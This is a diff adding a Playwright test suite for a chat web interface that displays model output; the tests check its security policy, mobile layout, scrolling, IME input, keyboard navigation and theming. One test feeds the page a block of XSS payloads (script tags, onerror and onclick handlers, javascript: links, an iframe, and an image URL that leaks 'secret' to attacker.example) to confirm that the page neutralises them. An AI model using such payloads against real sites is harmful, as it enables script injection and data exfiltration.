@@ -1,0 +1,155 @@
+"""The page itself: its policy, its layout, its keyboard, its manners while somebody reads."""
+
+from collections.abc import Callable
+
+import pytest
+from playwright.sync_api import expect
+
+from tests.web.conftest import HOLD, Server, ToldModel, Visitor
+
+FOCUSED = """() => {
+  const one = document.activeElement
+  const name = one === document.body ? 'BODY' : one.getAttribute('aria-label') || one.textContent
+  return [name, getComputedStyle(one).outlineStyle]
+}"""
+
+HOSTILE = """Hello <script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2">
+
+[click](javascript:window.hacked=3) [data](data:text/html,<script>1</script>)
+
+![secret](https://attacker.example/x.png?q=secret) [home](https://attacker.example/)
+
+<iframe src="https://attacker.example/"></iframe> <a href="x" onclick="window.hacked=4">a</a>
+"""
+
+
+def test_what_a_model_writes_cannot_run_or_call_home(visitor: Visitor, model: ToldModel) -> None:
+    """Markup is shown as text, links have harmless schemes only, and remote images are links nobody has
+    followed yet. (That no request went out is asserted for every visitor.)"""
+    model.tell(HOSTILE)
+    visitor.ask()
+    visitor.finished()
+    expect(visitor.text).to_contain_text("<script>window.hacked = 1</script>")
+    assert visitor.page.evaluate("window.hacked") is None
+    assert visitor.text.locator("script, iframe, img, [onclick], [onerror]").count() == 0
+    links = visitor.text.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel])")
+    assert links[:1] == [["https://attacker.example/x.png?q=secret", "noopener noreferrer"]]
+    assert all(href.startswith("https://") for href, _ in links)
+
+
+def test_the_policy_is_as_strict_as_promised(visitor: Visitor, server: Server) -> None:
+    """Nothing inline, nothing foreign, and scripts only from files."""
+    policy = visitor.page.request.get(server.url).headers["content-security-policy"]
+    for part in (
+        "default-src 'none'",
+        "script-src 'self'",
+        "style-src 'self'",
+        "require-trusted-types-for 'script'",
+    ):
+        assert part in policy
+    assert "unsafe" not in policy
+    html = visitor.page.request.get(server.url).text()
+    assert "style=" not in html
+    assert "<script>" not in html
+
+
+@pytest.mark.parametrize("width", [320, 390])
+def test_a_phone_never_scrolls_sideways(
+    new_visitor: Callable[..., Visitor], server: Server, model: ToldModel, width: int
+) -> None:
+    """Long words, code and tables scroll inside their own boxes; buttons are a thumb wide."""
+    visitor = new_visitor(viewport={"width": width, "height": 800}, has_touch=True, is_mobile=True)
+    visitor.open(server.url)
+    wide = (
+        f"{'long' * 60}\n\n```\n{'code ' * 60}\n```\n\n| a | b | c |\n|---|---|---|\n| {'x' * 90} | 1 | 2 |\n"
+    )
+    model.tell(wide)
+    visitor.ask(f"{'wide' * 40}?")
+    visitor.finished()
+    assert width == visitor.page.evaluate("document.documentElement.scrollWidth")
+    assert visitor.page.evaluate("document.querySelector('.transcript').scrollWidth") <= width
+    visitor.page.get_by_role("button", name="Open the list of chats").tap()
+    visitor.page.get_by_role("button", name="Documents").tap()
+    expect(visitor.drawer).to_be_visible()
+    assert width == visitor.page.evaluate("document.documentElement.scrollWidth")
+    small = visitor.page.evaluate(
+        """() => [...document.querySelectorAll('.round, .go, .new-chat')]
+             .filter((one) => one.checkVisibility()).map((one) => one.getBoundingClientRect())
+             .filter((box) => box.height < 44 || box.width < 44).length"""
+    )
+    assert small == 0
+
+
+def test_the_reader_decides_where_the_page_stands(visitor: Visitor, model: ToldModel) -> None:
+    """At the end the view follows; scrolled up it stays where it is and offers the way back."""
+    lines = [f"Line {n} of a long answer.\n\n" for n in range(120)]
+    model.tell(*lines[:60], HOLD, *lines[60:90], HOLD, *lines[90:])
+    visitor.ask()
+    expect(visitor.text).to_contain_text("Line 59")
+    log = visitor.page.get_by_role("log")
+    distance = "box => box.scrollHeight - box.clientHeight - box.scrollTop"
+    expect(visitor.text.get_by_text("Line 59")).to_be_in_viewport()
+    log.hover()
+    visitor.page.mouse.wheel(0, -600)
+    latest = visitor.page.get_by_role("button", name="Go to the latest answer")
+    expect(latest).to_be_visible()
+    top = log.evaluate("box => box.scrollTop")
+    model.release()
+    expect(visitor.text).to_contain_text("Line 89")
+    assert abs(log.evaluate("box => box.scrollTop") - top) <= 2
+    latest.click()
+    model.release()
+    visitor.finished()
+    expect(visitor.text).to_contain_text("Line 119")
+    assert log.evaluate(distance) < 2
+    expect(latest).to_have_count(0)
+
+
+def test_enter_while_composing_characters_does_not_send(visitor: Visitor, model: ToldModel) -> None:
+    """An input method's Enter accepts its suggestion; the next one sends. Shift+Enter makes a line."""
+    visitor.composer.fill("かな")
+    visitor.composer.evaluate(
+        """field => field.dispatchEvent(new KeyboardEvent(
+             'keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }))"""
+    )
+    visitor.composer.evaluate(
+        """field => field.dispatchEvent(new KeyboardEvent(
+             'keydown', { key: 'Enter', keyCode: 229, bubbles: true, cancelable: true }))"""
+    )
+    expect(visitor.page.locator(".question")).to_have_count(0)
+    visitor.composer.press("Shift+Enter")
+    expect(visitor.composer).to_have_value("かな\n")
+    model.tell("はい。")
+    visitor.composer.press("Enter")
+    expect(visitor.text).to_have_text("はい。")
+    visitor.finished()
+
+
+def test_every_control_is_reached_by_keyboard(visitor: Visitor) -> None:
+    """Tab goes through the page, and what has the focus shows it."""
+    reached: list[str] = []
+    while len(reached) < 100 and reached.count("Your question") < 2:
+        visitor.page.keyboard.press("Tab")
+        name, outline = visitor.page.evaluate(FOCUSED)
+        reached.append(name)
+        # The composer shows it by its frame; the page's body is where the browser's own controls come.
+        assert outline != "none" or name in ("Your question", "BODY"), name
+    for name in ("New chat", "Conversation", "Your question", "Add files"):
+        assert name in reached
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_the_theme_follows_the_system_and_can_be_chosen(
+    new_visitor: Callable[..., Visitor], server: Server, scheme: str
+) -> None:
+    """The page is dark where the system is; the choice made on the page wins and is remembered."""
+    visitor = new_visitor(color_scheme=scheme)
+    visitor.open(server.url)
+    brightness = "Number(/\\d+/.exec(getComputedStyle(document.body).backgroundColor)[0])"
+    assert (visitor.page.evaluate(brightness) > 128) == (scheme == "light")
+    visitor.page.get_by_role("button", name="Theme: as the system").click()
+    visitor.page.get_by_role("button", name="Theme: light").click()
+    assert visitor.page.evaluate(brightness) < 128
+    visitor.page.reload()
+    expect(visitor.page.get_by_role("button", name="Theme: dark")).to_be_visible()
+    assert visitor.page.evaluate(brightness) < 128
